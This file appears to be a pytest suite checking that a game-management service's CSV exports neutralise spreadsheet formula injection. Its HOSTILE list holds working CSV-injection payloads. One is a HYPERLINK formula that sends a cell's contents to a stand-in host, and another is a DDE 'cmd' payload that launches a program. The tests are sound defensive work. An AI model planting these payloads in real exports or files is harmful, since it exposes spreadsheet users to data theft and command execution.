"""Every CSV the service writes opens in a spreadsheet as text: a cell that would start a
formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which an importer strips
before reading what follows) comes with a ``'`` before it (docs/security.md). Names are
stored and shown as given; only the exports neutralise them.

The names come in as a team manager's would, through the API and a roster CSV, and the
exports are read back as a spreadsheet reads them: parsed as CSV, each cell's leading tabs
and carriage returns dropped, then a cell that starts with a formula character is a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import aiohttp
import pytest

from stream.live.reports import report_csv
from stream.tools.device_client import Device

from ..conftest import Server

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+2", "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def spreadsheet_formulas(text: str) -> list[str]:
    """The cells a spreadsheet would run as formulas."""
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]
    return [c for c in cells if c.lstrip("\t\r").startswith(("=", "+", "-", "@"))]


def cells(text: str) -> set[str]:
    return {c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row}


@pytest.mark.parametrize("cell", [*HOSTILE, "Ortega", "", "5:00", "O'Neill", "a=b"])
def test_a_cell_is_neutralised_only_when_it_would_start_a_formula(cell: str) -> None:
    out = report_csv.neutral(cell)
    if cell.startswith(report_csv.FORMULA_STARTS):
        assert out == "'" + cell
    else:
        assert out == cell


async def _hostile_game(server: Server) -> None:
    """A game whose teams, players and official are named by the hostile strings: the home
    side through the API, the away side through a roster CSV; a card and a goal played."""
    await server.setup_game()
    colors = {"primary": "#1f4e9c", "secondary": "#ffffff"}
    for team, name, short in (("g1-home", HOSTILE[0], "HOM"), ("g1-away", HOSTILE[1], "AWY")):
        status, doc = await server.api("POST", "/api/teams", {"team": team, "name": name, "short": short,
                                                              "colors": colors})
        assert status == 201, doc
    for player, name in zip(("h1", "h2", "h3"), HOSTILE[2:5], strict=True):
        status, doc = await server.api("POST", "/api/players", {"player": player, "name": name,
                                                                "team": "g1-home"})
        assert status == 201, doc
    ump = await server.device("umpire")
    ump_official = server.token("umpire", "ump-hostile", game="g1", official=HOSTILE[5])
    hostile_ump = Device(server.device_url, ump_official, prefix="ump-hostile")
    tk = await server.device("timekeeper")
    try:
        await tk.send({"type": "clock.start", "game": "g1"})
        await hostile_ump.send({"type": "card", "game": "g1", "player": "h2", "color": "red",
                                "conduct": "striking"})
        await ump.send({"type": "goal", "game": "g1", "team": "away"})
    finally:
        await hostile_ump.close()
        await ump.close()
        await tk.close()


async def _get_text(server: Server, path: str) -> tuple[int, str, Any]:
    async with aiohttp.ClientSession() as s, s.get(
            server.http + path, headers={"Authorization": f"Bearer {server.admin}"}) as r:
        return r.status, await r.text(), r.headers


async def test_the_game_report_csv_runs_no_formula_and_keeps_every_name(server: Server) -> None:
    await _hostile_game(server)
    status, text, headers = await _get_text(server, "/games/g1/report.csv")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    assert spreadsheet_formulas(text) == []
    seen = cells(text)
    # the teams' names, the carded player's (h2) and the carding official's
    for name in (HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[5]):
        assert "'" + name in seen, f"{name!r} is not in the report as text"
    # The names are stored as given: the API answers them unchanged.
    status, doc = await server.api("GET", "/api/teams/g1-home")
    assert status == 200 and doc["current"]["name"] == HOSTILE[0]


async def test_the_events_reports_csv_runs_no_formula(server: Server) -> None:
    await _hostile_game(server)
    status, text, _ = await _get_text(server, "/api/events/cup/reports.csv")
    assert status == 200, text
    assert spreadsheet_formulas(text) == []
    assert "'" + HOSTILE[3] in cells(text)


async def test_a_roster_file_keeps_its_names_and_the_template_runs_no_formula(server: Server) -> None:
    await server.setup_game()
    status, template, _ = await _get_text(server, "/api/rosters/template.csv")
    assert status == 200, template
    assert spreadsheet_formulas(template) == []
    header = next(csv.reader(io.StringIO(template.lstrip("\ufeff"))))
    out = io.StringIO()
    w = csv.DictWriter(out, fieldnames=header, restval="", lineterminator="\r\n")
    w.writeheader()
    w.writerows({"team": "g1-away", "team_name": "Away", "short": "AWY", "primary": "#c62828",
                 "secondary": "#f5d90a", "player": player, "player_name": name}
                for player, name in zip(("a1", "a2", "a3"), HOSTILE[5:], strict=True))
    async with aiohttp.ClientSession() as s, s.post(
            f"{server.http}/api/rosters/import", data=out.getvalue().encode(),
            headers={"Authorization": f"Bearer {server.admin}", "Content-Type": "text/csv"}) as r:
        answer = await r.text()
        assert r.status in (200, 201), answer
    for player, name in zip(("a1", "a2", "a3"), HOSTILE[5:], strict=True):
        status, doc = await server.api("GET", f"/api/players/{player}")
        # As given, but for the whitespace around a cell, which the import trims.
        assert status == 200 and doc["current"]["name"] == name.strip(), doc
    status, text, _ = await _get_text(server, "/games/g1/report.csv")
    assert spreadsheet_formulas(text) == []
